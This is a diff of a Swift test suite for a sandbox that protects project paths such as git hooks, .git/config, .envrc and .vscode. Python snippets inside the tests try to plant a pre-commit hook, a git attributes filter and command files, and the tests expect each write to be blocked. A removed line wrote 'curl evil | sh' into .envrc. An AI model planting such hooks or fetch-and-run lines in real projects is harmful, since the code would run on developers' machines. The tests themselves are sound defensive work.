@@ -56,6 +56,8 @@ struct ProtectedPathTests {
         precondition(mkdir(p.file(".git"), 0o755) == 0 && mkdir(p.file(".git/hooks"), 0o755) == 0)
         precondition(mkdir(p.file(".jido"), 0o755) == 0 && mkdir(p.file(".jido/commands"), 0o755) == 0)
         p.write(".git/config", "[core]\n\trepositoryformatversion = 0\n")
+        p.write(".envrc", "export A=1\n")
+        precondition(mkdir(p.file(".vscode"), 0o755) == 0)
         let r = try h.run(["/usr/bin/python3", "-c", Self.attacks])
         #expect(r.exitCode == 0, "\(r.err)")
         let a = Self.answers(r)
@@ -73,6 +75,7 @@ struct ProtectedPathTests {
         }
         // The host's files afterwards.
         #expect(p.read(".git/config") == "[core]\n\trepositoryformatversion = 0\n")
+        #expect(p.read(".envrc") == "export A=1\n")
         for planted in [
             ".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/hooks/pre-push", ".jido/commands/x.md",
             ".jido/skills", "stolen", ".git/info/attributes", ".vscode/tasks.json",
@@ -84,9 +87,12 @@ struct ProtectedPathTests {
         #expect(p.read("src.txt") == "pwned\n")
     }
 
-    @Test func missingProtectedPathsCannotBeCreated() throws {
-        // No .git, .jido, .envrc or .vscode at all: each becomes an empty read-only placeholder.
+    @Test func missingProtectedPathsInsideExistingEntriesCannotBeCreated() throws {
+        // A repository without hooks or info, a .jido without commands, an empty .vscode.
         let h = try SandboxHarness()
+        let p = h.project
+        precondition(mkdir(p.file(".git"), 0o755) == 0 && mkdir(p.file(".jido"), 0o755) == 0)
+        p.write(".git/config", "")
         let r = try h.run([
             "/usr/bin/python3", "-c",
             """
@@ -96,26 +102,36 @@ struct ProtectedPathTests {
                     f(); print(name, 0, flush=True)
                 except OSError as e:
                     print(name, e.errno, flush=True)
-            attempt("mkdir-hooks", lambda: os.makedirs(".git/hooks", exist_ok=True))
-            attempt("git-config", lambda: open(".git/config", "w").write("x"))
+            attempt("mkdir-hooks", lambda: os.makedirs(".git/hooks/x"))
+            attempt("hook", lambda: open(".git/hooks/pre-commit", "w").write("id"))
+            attempt("info", lambda: open(".git/info/attributes", "w").write("* filter=x"))
             attempt("jido-commands", lambda: os.makedirs(".jido/commands"))
-            attempt("envrc", lambda: open(".envrc", "w").write("curl evil | sh"))
-            attempt("devcontainer", lambda: os.mkdir(".devcontainer/x"))
+            attempt("jido-command", lambda: open(".jido/x.md", "w").write("x"))
             """,
         ])
         let a = Self.answers(r)
-        for name in ["mkdir-hooks", "git-config", "jido-commands", "envrc", "devcontainer"] {
+        for name in ["mkdir-hooks", "hook", "info", "jido-commands", "jido-command"] {
             #expect(a[name] == EROFS, "\(name): \(a[name].map(String.init) ?? "no answer") (\(r.out) \(r.err))")
         }
-        // The placeholders are empty and inert on the host.
-        #expect(p(h, ".envrc") == 0 && h.project.read(".envrc") == "")
-        #expect(access(h.project.file(".git/config"), F_OK) != 0 && access(h.project.file(".git/hooks"), F_OK) != 0)
-        #expect(access(h.project.file(".jido/commands"), F_OK) != 0)
+        // The placeholders are empty directories; nothing was planted in them.
+        #expect(Self.entries(p.file(".git/hooks")).isEmpty && Self.entries(p.file(".git/info")).isEmpty)
+        #expect(access(p.file(".jido/commands"), F_OK) != 0 && access(p.file(".jido/x.md"), F_OK) != 0)
+        // A project without those entries gets no placeholder at its top level.
+        let bare = try SandboxHarness()
+        let b = try bare.sh("true")
+        #expect(b.exitCode == 0)
+        #expect(Self.entries(bare.project.path).isEmpty, "placeholders at the top level: \(Self.entries(bare.project.path))")
     }
 
-    private func p(_ h: SandboxHarness, _ name: String) -> Int32 {
-        var st = stat()
-        return lstat(h.project.file(name), &st) == 0 && st.st_mode & S_IFMT == S_IFREG && st.st_size == 0 ? 0 : -1
+    static func entries(_ path: String) -> [String] {
+        guard let dir = opendir(path) else { return ["<missing \(path)>"] }
+        defer { closedir(dir) }
+        var names: [String] = []
+        while let entry = readdir(dir) {
+            let name = withUnsafeBytes(of: entry.pointee.d_name) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) }
+            if name != "." && name != ".." { names.append(name) }
+        }
+        return names
     }
 
     @Test func aProtectedPathThatIsASymlinkIsNeverFollowed() throws {
@@ -136,6 +152,7 @@ struct ProtectedPathTests {
 
     @Test func aProjectCanLiftAnEntry() throws {
         let h = try SandboxHarness { $0.filesystem.protectedPaths.removeAll { $0 == ".envrc" } }
+        h.project.write(".envrc", "")
         let r = try h.sh("echo 'export A=1' > .envrc && cat .envrc")
         #expect(r.exitCode == 0 && r.out == "export A=1\n", "\(r.err)")
         #expect(h.project.read(".envrc") == "export A=1\n")
